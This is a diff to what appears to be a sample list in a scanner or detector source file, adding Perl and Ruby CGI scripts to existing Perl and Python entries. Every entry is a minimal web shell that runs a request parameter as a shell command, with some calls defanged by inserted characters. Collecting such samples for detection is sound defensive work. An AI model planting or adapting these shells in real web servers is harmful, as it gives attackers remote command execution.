@@ -182,6 +182,8 @@ MORE = [
 # Programs of the web server in languages that are read by statements.
 SCRIPTS = [
     ("s01.cgi", "#!/usr/bin/perl\nuse CGI;\nmy $q = new CGI;\nmy $c = $q->param('c');\nop~en(F, \"$c 2>&1 |\");\nwhile (<F>) { print; }\n"),
+    ("s21.pl", "#!/usr/bin/perl\nuse CGI; my $q = CGI->new;\nop~en(C, $q->param('c') . ' |');\nprint while <C>;\n"),
+    ("s22.rb", "#!/usr/bin/env ruby\nrequire 'cgi'\nc = CGI.new\nputs c.header\nputs IO.po~pen(c['c']).read unless c['c'].empty?\n"),
     ("s02.pl", "#!/usr/bin/perl\nread(STDIN, $b, $ENV{'CONTENT_LENGTH'});\nforeach (split /&/, $b) { ($n, $v) = split /=/; $v =%NOT% tr/+/ /; $in{$n} = $v; }\nchdir $in{d}; print `$in{c} 2>&1`;\n"),
     ("s03.cgi", "#!/usr/bin/perl\n$c = \"cd \\\"$in{d}\\\"; $ENV{QUERY_STRING}\";\n$x = $ENV{QUERY_STRING};\n$r = 'cd /; ' . $x;\nsys~tem($x);\n"),
     ("s04.py", "#!/usr/bin/env python3\nimport cgi, subprocess\nform = cgi.FieldStorage()\nc = form.getvalue('c')\nprint(subprocess.Po~pen(c, shell=True, stdout=-1).communicate()[0])\n"),
